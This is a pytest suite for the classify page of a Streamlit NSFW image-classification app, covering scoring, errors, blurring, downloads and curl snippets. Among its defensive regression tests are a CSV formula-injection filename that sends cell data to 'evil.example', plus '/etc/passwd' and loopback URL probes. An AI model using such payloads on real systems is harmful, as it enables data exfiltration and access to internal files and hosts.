"""The classify page, run headless with Streamlit's AppTest (no browser).

The page is run directly (``pages/classify.py``); URLs point at a local image
server (``tests.helpers.servers``) that the settings allow through
``NSFW_ALLOW_PRIVATE_HOSTS``.  Scores are checked against the process-wide
model on the same bytes.
"""

from __future__ import annotations

import io
import json
import re
from typing import Any
from urllib.parse import quote

import numpy as np
import pytest
from PIL import Image
from streamlit.dataframe_util import convert_arrow_bytes_to_pandas_df
from streamlit.testing.v1 import AppTest

from nsfw_core import classify as classify_module
from nsfw_core.base.errors import InvalidURL, TooLarge
from nsfw_core.base.settings import CLASS_NAMES, load_settings
from nsfw_core.base.verdict import Thresholds
from nsfw_core.context import Context
from nsfw_core.inference.pipeline import Decoder
from nsfw_core.state.thresholds import ThresholdHistory
from nsfw_ui import inputs, widgets
from tests.helpers.models import model_named
from tests.helpers.pages import new_context
from tests.helpers.paths import REFERENCE, ROOT
from tests.helpers.servers import image, local_server  # noqa: F401 - pytest fixture
from tests.helpers.signin import REVIEWER, signed_in

PAGE = ROOT / "pages" / "classify.py"
TIMEOUT = 120
ENV_VARS = ("NSFW_ALLOW_PRIVATE_HOSTS", "NSFW_API_KEYS", "NSFW_MODEL", "NSFW_MAX_BYTES", "NSFW_ADULT_THRESHOLD",
            "NSFW_SAFE_THRESHOLD", "NSFW_ADULT_CLASSES", "NSFW_SAFE_CLASSES", "NSFW_MAX_BATCH_ITEMS")


# ---------------------------------------------------------------- fixtures and helpers


@pytest.fixture
def page_env(monkeypatch, tmp_path):
    """Default settings with a private data folder; the process context is made afresh before and after."""
    for name in ENV_VARS:
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("NSFW_DATA_DIR", str(tmp_path / "data"))
    new_context()
    yield monkeypatch
    new_context()


@pytest.fixture
def images(local_server, page_env):  # noqa: F811 - the fixture imported above
    """The local server with the reference JPEGs, allowed by the settings; returns it."""
    for path in sorted(REFERENCE.glob("*.jpg")):
        local_server.route(f"/{path.name}", image(path.read_bytes(), "image/jpeg"))
    page_env.setenv("NSFW_ALLOW_PRIVATE_HOSTS", local_server.netloc)
    return local_server


def expected_scores(name: str) -> dict[str, float]:
    model = model_named("MobileNetV2Mid")
    data = (REFERENCE / name).read_bytes()
    decoder = Decoder(load_settings().decode_limits)
    try:
        return model.classify([decoder.decode_for(model, data)])[0]
    finally:
        decoder.close()


def new_page() -> AppTest:
    at = AppTest.from_file(str(PAGE), default_timeout=TIMEOUT).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def classify(at: AppTest, urls: str = "", uploads=()) -> AppTest:
    at.text_area(key="urls").set_value(urls)
    for upload in uploads:
        at.file_uploader(key="uploads").upload(*upload)
    at.button(key="classify").click().run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def verdict_lines(at: AppTest) -> list[str]:
    return [m.value for m in at.markdown if "adult score" in m.value]


def caption_scores(at: AppTest) -> list[dict[str, float]]:
    out = []
    for caption in at.caption:
        found = dict(re.findall(r"(drawings|hentai|neutral|porn|sexy) ([0-9.]+)", caption.value))
        if len(found) == 5:
            out.append({k: float(v) for k, v in found.items()})
    return out


def assert_scores(shown: dict[str, float], expected: dict[str, float], tol: float) -> None:
    assert set(shown) == set(CLASS_NAMES)
    for name in CLASS_NAMES:
        assert shown[name] == pytest.approx(expected[name], abs=tol), name


# ---------------------------------------------------------------- the page


def test_urls_are_classified_like_the_model(images):
    at = new_page()
    assert at.selectbox(key="model_name").value == "MobileNetV2Mid"
    assert "Active thresholds (defaults from the settings)" in at.markdown[0].value
    at = classify(at, f"{images.url('/house.jpg')}\n\n{images.url('/missing.jpg')}\n{images.url('/glasses.jpg')}\n")

    house, glasses = expected_scores("house.jpg"), expected_scores("glasses.jpg")
    # Errors inline, the others still shown.
    errors = [e.value for e in at.error]
    assert len(errors) == 1 and errors[0].startswith("upstream_error: "), errors
    lines = verdict_lines(at)
    assert len(lines) == 2 and all("**definitely safe**" in line for line in lines), lines
    # The chart's text alternative, 4 decimals.
    shown = caption_scores(at)
    assert len(shown) == 2
    assert_scores(shown[0], house, 5e-5 + 1e-4)
    assert_scores(shown[1], glasses, 5e-5 + 1e-4)
    # The chart: horizontal bars (class on y) with the scores as text labels.
    charts = at.get("vega_lite_chart")
    assert len(charts) == 2
    spec = json.loads(charts[0].proto.spec)
    assert [layer["mark"]["type"] for layer in spec["layer"]] == ["bar", "text"]
    assert spec["layer"][0]["encoding"]["y"]["field"] == "class"
    assert spec["layer"][1]["encoding"]["text"] == {"field": "score", "format": ".4f", "type": "quantitative"}
    data = convert_arrow_bytes_to_pandas_df(charts[0].proto.datasets[0].data.data)
    assert_scores(dict(zip(data["class"], data["score"], strict=True)), house, 1e-4)
    # The summary table: one row per input, full precision.
    table = at.dataframe[0].value
    assert list(table["source"]) == [images.url("/house.jpg"), images.url("/missing.jpg"), images.url("/glasses.jpg")]
    assert list(table["verdict"].fillna("")) == ["definitely safe", "", "definitely safe"]
    assert_scores({c: table[c][0] for c in CLASS_NAMES}, house, 1e-4)
    assert_scores({c: table[c][2] for c in CLASS_NAMES}, glasses, 1e-4)
    assert table["adult score"][0] == pytest.approx(house["porn"] + house["sexy"], abs=1e-4)
    assert table["safe score"][2] == pytest.approx(glasses["neutral"] + glasses["drawings"], abs=1e-4)
    assert table["error"][1].startswith("upstream_error: ") and table["ms"][0] > 0
    # curl for the current inputs, against this server (no URL known in AppTest: localhost:PORT).
    code = at.code[0].value
    assert f"curl -XPOST 'http://localhost:8080/predict?url={quote(images.url('/house.jpg'), safe='')}'" in code
    assert code.count("curl ") == 3


def test_loopback_url_is_forbidden_by_default(local_server, page_env):  # noqa: F811
    local_server.route("/house.jpg", image((REFERENCE / "house.jpg").read_bytes(), "image/jpeg"))
    at = classify(new_page(), local_server.url("/house.jpg") + "\n/etc/passwd\n")
    errors = [e.value for e in at.error]
    assert errors[0].startswith("forbidden_address: "), errors
    assert errors[1].startswith("invalid_url: "), errors  # a path is never read as a local file
    assert local_server.requests == []
    assert len(at.dataframe[0].value) == 2 and not verdict_lines(at)


def test_uploads_and_downloads(page_env, media):
    glasses = (REFERENCE / "glasses.jpg").read_bytes()
    at = classify(new_page(), uploads=[("glasses.jpg", glasses, "image/jpeg"),
                                       ("notes.jpg", b"these are not pixels", "image/jpeg")])
    expected = expected_scores("glasses.jpg")
    errors = [e.value for e in at.error]
    assert len(errors) == 1 and errors[0].startswith("not_an_image: "), errors
    assert "**definitely safe**" in verdict_lines(at)[0]
    assert_scores(caption_scores(at)[0], expected, 5e-5 + 1e-4)
    # A safe image is shown as it is: no reveal toggle, not blurred.
    assert [t.key for t in at.toggle] == ["camera_on"]
    shown = Image.open(io.BytesIO(media(at.image[0].value[0]))).convert("RGB")
    preview = at.session_state["classify_results"]["rows"][0]["preview"]
    assert shown.size == preview.size and max(shown.size) <= 384
    # Downloads: CSV and JSON of the same results.
    buttons = {b.key: b for b in at.get("download_button")}
    assert set(buttons) == {"download_csv", "download_json"}
    records = json.loads(media(buttons["download_json"].proto.url))
    assert [r["source"] for r in records] == ["glasses.jpg", "notes.jpg"]
    assert records[0]["verdict"] == "safe" and records[1]["error"]["code"] == "not_an_image"
    assert_scores(records[0]["scores"], expected, 1e-4)
    csv = media(buttons["download_csv"].proto.url).decode().splitlines()
    assert csv[0] == "source,verdict,drawings,hentai,neutral,porn,sexy,adult score,safe score,ms,error"
    assert len(csv) == 3 and csv[1].startswith("glasses.jpg,definitely safe,")
    # curl for uploads.
    code = at.code[0].value
    assert "curl -XPOST --data-binary @glasses.jpg -H 'Content-Type: image/jpeg' 'http://localhost:8080/predict'" in code


def test_with_an_adapter_in_force_the_page_judges_as_the_api_does(page_env, media, monkeypatch):
    """Issue 26: the adapter's own thresholds judge its score.  Before, the page re-judged every result under the
    base thresholds history (0.7 / 0.9 by default), so an adapter score of 0.5 with the adapter's 0.4 / 0.45 was
    'needs review' here and 'definitely adult' in the API's answer."""
    from nsfw_core.inference.embeddings import AdapterHead
    from nsfw_core.state.adapters import AdapterVersion

    dim = 1792  # MobileNetV2Mid's embedding
    adapter = AdapterVersion("swimwear", 4, "MobileNetV2Mid", "v", AdapterHead(dim, np.zeros(dim + 5), 0.0), 0.4,
                             0.45, {}, "0" * 64, 40, True, "test", 0.0)
    monkeypatch.setattr(classify_module.Classifier, "adapter_for", lambda self, model, wanted=True: adapter)
    glasses = (REFERENCE / "glasses.jpg").read_bytes()
    at = classify(new_page(), uploads=[("glasses.jpg", glasses, "image/jpeg")])
    result = at.session_state["classify_results"]["rows"][0]["classification"]
    assert result.adapter is adapter and result.verdict == "adult"  # as the API judged it
    assert "**definitely adult**" in verdict_lines(at)[0] and "adult score 0.5000" in verdict_lines(at)[0]
    assert any("swimwear version 4" in c.value and "≥ 0.40" in c.value for c in at.caption)
    buttons = {b.key: b for b in at.get("download_button")}
    assert json.loads(media(buttons["download_json"].proto.url))[0]["verdict"] == "adult"


def test_the_csv_download_writes_a_formula_name_as_text(page_env, media):
    """Issue 29, point 7: an upload named =HYPERLINK(...) went verbatim into the results CSV (a formula)."""
    import csv as csv_module

    name = '=HYPERLINK("https://evil.example/?"&A1,"x").jpg'
    at = classify(new_page(), uploads=[(name, (REFERENCE / "glasses.jpg").read_bytes(), "image/jpeg")])
    buttons = {b.key: b for b in at.get("download_button")}
    (row,) = csv_module.DictReader(io.StringIO(media(buttons["download_csv"].proto.url).decode()))
    assert row["source"] == "'" + name and float(row["drawings"]) >= 0  # the scores stay numbers


def test_an_animation_shows_its_frames_blurred_with_the_deciding_one_marked(page_env, media):
    page_env.setenv("NSFW_SAFE_THRESHOLD", "0.99999")  # nothing is definitely safe: previews blurred
    frames = [Image.open(ROOT / "data" / "demo" / "photos" / name).convert("RGB").resize((96, 96))
              for name in ("skimage_coffee.jpg", "skimage_chelsea.jpg", "skimage_rocket.jpg")]
    buf = io.BytesIO()
    frames[0].save(buf, "GIF", save_all=True, append_images=frames[1:], duration=[500, 500, 500], loop=0)
    at = classify(new_page(), uploads=[("moving.gif", buf.getvalue(), "image/gif")])
    [result] = at.session_state["classify_results"]["rows"]
    c = result["classification"]
    assert [f.index for f in c.frames] == [0, 1, 2] and c.verdict == "unknown"
    captions = [cap for img in at.image for cap in img.captions if cap.startswith(("frame ", "◆ frame "))]
    assert captions == [("◆ " if i == c.deciding_frame else "") + f"frame {i} · {500 * i} ms" for i in range(3)]
    assert "3 frames classified" in " ".join(cap.value for cap in at.caption)
    strip = [img for img in at.image if any(cap.endswith(" ms") for cap in img.captions)]
    shown = np.asarray(Image.open(io.BytesIO(media(strip[1].value[0]))).convert("RGB"), dtype=np.float32)
    near = {name: np.abs(shown - np.asarray(result["frames"][1][name], dtype=np.float32)).mean()
            for name in ("image", "blurred")}
    assert near["blurred"] < near["image"]  # blurred copies until revealed
    at.toggle(key="reveal_0").set_value(True).run()
    strip = [img for img in at.image if any(cap.endswith(" ms") for cap in img.captions)]
    shown = np.asarray(Image.open(io.BytesIO(media(strip[1].value[0]))).convert("RGB"), dtype=np.float32)
    assert np.abs(shown - np.asarray(result["frames"][1]["image"], dtype=np.float32)).mean() < near["image"]


def test_camera_snapshot_behind_a_toggle(page_env):
    at = new_page()
    assert not at.camera_input  # the browser is not asked for the camera by default
    at.toggle(key="camera_on").set_value(True).run()
    at.camera_input(key="camera").set_value(("image.jpg", (REFERENCE / "glasses.jpg").read_bytes(), "image/jpeg"))
    at = classify(at)
    assert_scores(caption_scores(at)[0], expected_scores("glasses.jpg"), 5e-5 + 1e-4)
    assert list(at.dataframe[0].value["source"]) == ["image.jpg"]
    assert "--data-binary @image.jpg -H 'Content-Type: image/jpeg'" in at.code[0].value


def test_upload_over_the_byte_cap_is_refused(page_env):
    page_env.setenv("NSFW_MAX_BYTES", "1000")
    at = classify(new_page(), uploads=[("glasses.jpg", (REFERENCE / "glasses.jpg").read_bytes(), "image/jpeg")])
    assert [e.value.split(":")[0] for e in at.error] == ["too_large"]


def test_review_images_are_blurred_until_revealed(images, media, monkeypatch):
    # A strict safe threshold, saved like the calibration page does: house.jpg needs review.
    history = ThresholdHistory.from_settings(load_settings())
    history.save(Thresholds(adult=0.7, safe=0.999), model="MobileNetV2Mid")
    history.close()
    calls = []
    real = classify_module.Classifier.sources

    def counting_sources(*a, **k):
        calls.append(1)
        return real(*a, **k)

    monkeypatch.setattr(classify_module.Classifier, "sources", counting_sources)

    at = new_page()
    assert "(calibrated for MobileNetV2Mid" in at.markdown[0].value and "≥ 1.00" in at.markdown[0].value
    at = classify(at, images.url("/house.jpg"))
    assert "**needs review**" in verdict_lines(at)[0]
    row = at.session_state["classify_results"]["rows"][0]

    def shown() -> str:
        pixels = np.asarray(Image.open(io.BytesIO(media(at.image[0].value[0]))).convert("RGB"), dtype=np.float32)
        near = {name: np.abs(pixels - np.asarray(row[name], dtype=np.float32)).mean() for name in ("preview", "blurred")}
        return min(near, key=lambda name: near[name])

    assert at.image[0].proto.imgs[0].alt.startswith("blurred preview")
    assert shown() == "blurred"
    at.toggle(key="reveal_0").set_value(True).run()
    assert not at.exception
    assert at.image[0].proto.imgs[0].alt.startswith("preview of")
    assert shown() == "preview"
    assert len(calls) == 1  # revealing did not classify again
    # A new classification hides it again.
    at.button(key="classify").click().run()
    assert len(calls) == 2 and at.toggle(key="reveal_0").value is False and shown() == "blurred"


def test_corrupt_thresholds_file_warns(page_env, tmp_path):
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "thresholds.json").write_text("{not json")
    at = new_page()
    assert any("unreadable" in w.value for w in at.warning)
    assert "defaults from the settings" in at.markdown[0].value


def test_empty_submit_asks_for_input(page_env):
    at = classify(new_page(), "  \n# a comment\n")
    assert at.warning and "at least one image" in at.warning[0].value
    assert not at.dataframe


def test_curl_box_uses_the_browser_url_and_api_key(page_env):
    page_env.setenv("NSFW_API_KEYS", "secret-key-0123456789")
    anonymous = AppTest.from_file(str(PAGE), default_timeout=TIMEOUT).run()
    assert not anonymous.code and "needs signing in" in anonymous.warning[0].value  # a keyed API: no public page
    at = signed_in(AppTest.from_file(str(PAGE), default_timeout=TIMEOUT), REVIEWER)
    at.context["url"] = "https://nsfw.example.org/classify"
    at.run()
    code = at.code[0].value  # before any input: an example
    assert "'https://nsfw.example.org/predict?url=https%3A%2F%2Fexample.com%2Fimage.jpg'" in code
    assert 'Authorization: Bearer $NSFW_API_KEY' in code and "secret-key" not in code


# ---------------------------------------------------------------- the page's loaders (nsfw_ui.inputs)


def test_loader_helpers():
    ctx = Context(load_settings({"NSFW_MAX_BYTES": "10"}))
    try:
        assert inputs.upload_bytes(b"0123456789", ctx.serving.max_bytes) == b"0123456789"
        with pytest.raises(TooLarge):
            inputs.upload_bytes(b"0123456789!", ctx.serving.max_bytes)
        for not_a_url in ("/etc/passwd", "model/manifest.json", "C:/x.jpg"):
            with pytest.raises(InvalidURL):
                inputs.url_bytes(ctx, not_a_url)
        kept: dict[str, bytes] = {}
        load = inputs.input_loader(ctx, {"0": b"abc", "1": b"0123456789!", "2": "/etc/passwd"}, keep=kept)
        assert load("0") == b"abc" and kept == {"0": b"abc"}
        with pytest.raises(TooLarge):
            load("1")
        with pytest.raises(InvalidURL):
            load("2")
        assert kept == {"0": b"abc"}
    finally:
        ctx.close()


def test_api_base_url_and_curl():
    assert widgets.api_base_url("http://h.example:8501/classify", None) == "http://h.example:8501"
    assert widgets.api_base_url(None, "h.example:9000") == "http://h.example:9000"
    assert widgets.api_base_url(None, None, 8123) == "http://localhost:8123"
    text = widgets.curl_commands("http://h", ["http://a.example/x y.jpg?a=1&b='2'"], [("my pic.png", "image/png")])
    assert text.splitlines() == [
        "curl -XPOST 'http://h/predict?url=http%3A%2F%2Fa.example%2Fx%20y.jpg%3Fa%3D1%26b%3D%272%27'",
        "curl -XPOST --data-binary '@my pic.png' -H 'Content-Type: image/png' 'http://h/predict'",
    ]


@pytest.mark.slow
def test_a_video_shows_its_timeline_and_each_segments_deciding_frame_blurred(page_env, media):
    from tests.helpers import videos

    page_env.setenv("NSFW_SAFE_THRESHOLD", "0.99999")  # nothing is definitely safe: frames blurred
    clip = videos.make("mp4", "h264", seconds=4, fps=10, size=(160, 120), hold=2.0)
    at = classify(new_page(), uploads=[("clip.mp4", clip, "video/mp4")])
    [row] = at.session_state["classify_results"]["rows"]
    c = row["classification"]
    assert c is not None and c.video is not None and len(c.frames) == 4 and c.segments
    # the Altair timeline: the segments shaded and the scores of every sampled frame over time
    charts = [json.loads(chart.proto.spec) for chart in at.get("vega_lite_chart")]
    def marks(spec: dict[str, Any]) -> list[str]:
        return [layer["mark"]["type"] if isinstance(layer["mark"], dict) else layer["mark"]
                for layer in spec.get("layer", [])]

    assert [marks(spec) for spec in charts if marks(spec) == ["rect", "line", "rule"]], [marks(s) for s in charts]
    captions = " ".join(cap.value for cap in at.caption)
    assert "4 frames judged" in captions and "deciding frame" in captions
    # each segment's deciding frame, blurred until revealed
    deciding = row["deciding"]
    assert [f["verdict"] for f in deciding] == [s.verdict for s in c.segments]
    shown = [img for img in at.image if any(cap.endswith(" s") for cap in img.captions)]
    assert len(shown) == len(deciding)
    first = np.asarray(Image.open(io.BytesIO(media(shown[0].value[0]))).convert("RGB"), dtype=np.float32)
    near = {k: np.abs(first - np.asarray(deciding[0][k], dtype=np.float32)).mean() for k in ("image", "blurred")}
    assert near["blurred"] < near["image"]
    at.toggle(key="reveal_0").set_value(True).run()
    shown = [img for img in at.image if any(cap.endswith(" s") for cap in img.captions)]
    first = np.asarray(Image.open(io.BytesIO(media(shown[0].value[0]))).convert("RGB"), dtype=np.float32)
    assert np.abs(first - np.asarray(deciding[0]["image"], dtype=np.float32)).mean() < near["image"]
